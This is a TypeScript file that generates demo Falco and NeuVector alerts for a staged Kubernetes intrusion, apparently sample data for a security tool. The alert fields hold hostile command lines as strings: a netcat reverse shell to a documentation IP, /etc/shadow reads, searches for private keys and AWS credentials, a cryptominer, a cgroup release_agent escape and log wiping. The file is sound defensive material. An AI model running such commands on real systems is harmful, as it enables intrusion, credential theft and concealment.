/**
 * A bundled attack, as Falco and NeuVector would report it: a web shop's front end is exploited, the intruder opens a
 * shell, looks around, steals credentials, drops a miner, tries to escape and moves on to the database.
 */

export interface DemoEvent {
  source: 'falco' | 'neuvector';
  /** The sensor's own JSON. */
  body: Record<string, unknown>;
}

const NODE = 'worker-2';
const POD = 'storefront-6d5f7c9b8d-x2lqp';
const CONTAINER = '3f1c9d0a5b21';
const IMAGE = 'registry.example.com/shop/storefront';
const WORKLOAD_ID = 'd942a25bb498fea0ea9be594a605778e478c5cac07d57edf225fa19264ba83ef';
const STORY_SECONDS = 240;

/** The events in order, the last of them now; both sensors name the same cluster, as they must to be correlated. */
export function demoAttack(nowMs: number, cluster: string): DemoEvent[] {
  const start = nowMs - STORY_SECONDS * 1000;
  const at = (seconds: number): Date => new Date(start + seconds * 1000);

  const falco = (
    seconds: number,
    priority: string,
    rule: string,
    command: string,
    tags: string[],
    fields: Record<string, unknown> = {},
  ): DemoEvent => {
    const time = at(seconds);
    return {
      source: 'falco',
      body: {
        output: `${time.toISOString().slice(11, 19)}: ${priority} ${rule} (${command})`,
        priority,
        rule,
        source: 'syscall',
        time: time.toISOString(),
        hostname: NODE,
        tags: ['container', 'maturity_stable', ...tags],
        output_fields: {
          'container.id': CONTAINER,
          'container.image.repository': IMAGE,
          'container.image.tag': '4.18.2',
          'container.name': 'storefront',
          'k8s.ns.name': 'shop',
          'k8s.pod.name': POD,
          'proc.cmdline': command,
          'proc.name': command.split(' ')[0],
          'proc.pname': 'node',
          'user.name': 'www-data',
          'user.uid': 33,
          ...fields,
        },
      },
    };
  };

  const common = (seconds: number, level: string): Record<string, unknown> => ({
    cluster,
    level,
    reported_timestamp: Math.floor(at(seconds).getTime() / 1000),
    reported_at: at(seconds)
      .toISOString()
      .replace(/\.\d+Z$/, 'Z'),
    cluster_name: cluster,
    host_id: `${NODE}:Q2FM:7YQH:VZ4T`,
    host_name: NODE,
    enforcer_id: 'e507cb98f3c0f0fd',
    enforcer_name: 'neuvector-enforcer-pod-qm4zd',
  });

  const connection = (seconds: number, port: number, server: string, serverIp: string): DemoEvent => ({
    source: 'neuvector',
    body: {
      ...common(seconds, 'Warning'),
      id: demoUuid(seconds * 10),
      client_id: WORKLOAD_ID,
      client_name: POD,
      client_domain: 'shop',
      client_image: `${IMAGE}:4.18.2`,
      client_service: 'storefront.shop',
      server_id: server,
      server_name: server,
      server_port: port,
      ip_proto: 6,
      applications: port === 3306 ? ['MySQL'] : [],
      servers: [],
      sessions: 1,
      policy_action: 'violate',
      policy_id: 0,
      client_ip: '10.42.1.37',
      server_ip: serverIp,
      fqdn: '',
      xff: false,
      nbe: false,
    },
  });

  const incident = (seconds: number, name: string, command: string, message: string, level = 'Critical'): DemoEvent => ({
    source: 'neuvector',
    body: {
      ...common(seconds, level),
      name,
      id: demoUuid(seconds * 10 + 1),
      workload_id: WORKLOAD_ID,
      workload_name: POD,
      workload_domain: 'shop',
      workload_image: `${IMAGE}:4.18.2`,
      workload_service: 'storefront.shop',
      proc_name: command.split(' ')[0]?.split('/').at(-1),
      proc_path: command.split(' ')[0],
      proc_cmd: command,
      proc_effective_user: 'www-data',
      proc_effective_uid: 33,
      action: 'violate',
      group: 'nv.storefront.shop',
      rule_id: '00000000-0000-0000-0000-000000000001',
      message,
    },
  });

  const injection = (seconds: number): DemoEvent => ({
    source: 'neuvector',
    body: {
      ...common(seconds, 'Critical'),
      name: 'SQL.Injection',
      id: demoUuid(seconds * 10 + 2),
      threat_id: 2022,
      client_workload_id: 'external',
      client_workload_name: 'external',
      server_workload_id: WORKLOAD_ID,
      server_workload_name: POD,
      server_workload_domain: 'shop',
      server_workload_image: `${IMAGE}:4.18.2`,
      server_workload_service: 'storefront.shop',
      severity: 'Critical',
      action: 'alert',
      count: 3,
      ether_type: 2048,
      client_port: 51432,
      server_port: 8080,
      server_conn_port: 8080,
      icmp_code: 0,
      icmp_type: 0,
      ip_proto: 6,
      client_ip: '203.0.113.54',
      server_ip: '10.42.1.37',
      application: 1001,
      sensor: '',
      group: '',
      target: 'server',
      monitor: true,
      message: 'SQL injection detected',
    },
  });

  const discovery = [30, 33, 36, 39, 42, 45].map((seconds, index) =>
    falco(seconds, 'Notice', 'Terminal shell in container', ['id', 'uname -a', 'cat /proc/1/cgroup', 'env', 'ip addr', 'ls /'][index] as string, [
      'T1059',
      'mitre_execution',
      'shell',
    ]),
  );
  const scan = [22, 80, 443, 3306, 5432, 6379, 8443, 9200, 10250, 27017].map((port, index) =>
    connection(120 + index * 2, port, 'orders-db-0', '10.42.2.11'),
  );

  return [
    injection(0),
    injection(6),
    falco(15, 'Error', 'Drop and execute new binary in container', 'sh -c ./dropper', ['T1543', 'mitre_persistence']),
    falco(20, 'Notice', 'Terminal shell in container', 'bash -i', ['T1059', 'mitre_execution', 'shell'], { 'proc.tty': 34816 }),
    ...discovery,
    falco(52, 'Warning', 'Read sensitive file untrusted', 'cat /etc/shadow', ['T1555', 'mitre_credential_access'], { 'fd.name': '/etc/shadow' }),
    falco(58, 'Warning', 'Search Private Keys or Passwords', 'grep -r BEGIN.*PRIVATE /', ['T1552.001', 'mitre_credential_access']),
    falco(63, 'Warning', 'Find AWS Credentials', 'find / -name .aws', ['T1552', 'mitre_credential_access']),
    falco(70, 'Notice', 'Contact K8S API Server From Container', 'curl -k https://10.43.0.1/api', ['T1565', 'mitre_discovery'], {
      'fd.name': '10.42.1.37:48122->10.43.0.1:443',
    }),
    falco(78, 'Error', 'Launch Package Management Process in Container', 'apt-get install -y netcat', ['T1505', 'mitre_persistence']),
    incident(80, 'Container.Package.Updated', '/usr/bin/apt-get install -y netcat', 'Software packages were updated.', 'Warning'),
    falco(88, 'Warning', 'Netcat Remote Code Execution in Container', 'nc -e /bin/sh 203.0.113.54 4444', ['T1059', 'mitre_execution']),
    incident(90, 'Container.Suspicious.Process', '/bin/nc -e /bin/sh 203.0.113.54 4444', 'Risky application: nc reverse shell'),
    falco(100, 'Error', 'Write below etc', 'tee /etc/ld.so.preload', ['T1098', 'mitre_persistence'], { 'fd.name': '/etc/ld.so.preload' }),
    falco(106, 'Error', 'Write below binary dir', 'cp ./ps /usr/bin/ps', ['T1543', 'mitre_persistence'], { 'fd.name': '/usr/bin/ps' }),
    ...scan,
    incident(150, 'Process.Profile.Violation', '/tmp/xmrig -o stratum+tcp://pool.example.net:3333', 'Process profile violation'),
    falco(152, 'Critical', 'Detect crypto miners using the Stratum protocol', 'xmrig -o stratum+tcp://pool.example.net:3333', [
      'T1496',
      'mitre_impact',
    ]),
    incident(170, 'Container.Privilege.Escalation', '/tmp/pwn', 'Unauthorized root privilege escalation!'),
    falco(
      180,
      'Critical',
      'Detect release_agent File Container Escapes',
      'sh -c echo /cmd > release_agent',
      ['T1611', 'mitre_privilege_escalation'],
      {
        'fd.name': '/sys/fs/cgroup/release_agent',
      },
    ),
    falco(190, 'Notice', 'Change thread namespace', 'nsenter -t 1 -m -u -i -n sh', ['T1611', 'mitre_privilege_escalation']),
    connection(205, 443, 'external', '203.0.113.54'),
    falco(220, 'Warning', 'Clear Log Activities', 'truncate -s 0 /var/log/nginx/access.log', ['T1070', 'mitre_defense_evasion']),
    falco(240, 'Notice', 'Terminal shell in container', 'exit', ['T1059', 'mitre_execution', 'shell']),
  ];
}

/** NeuVector gives its records uuids; these only have to differ. */
function demoUuid(n: number): string {
  return `00000000-0000-4000-8000-${n.toString(16).padStart(12, '0')}`;
}
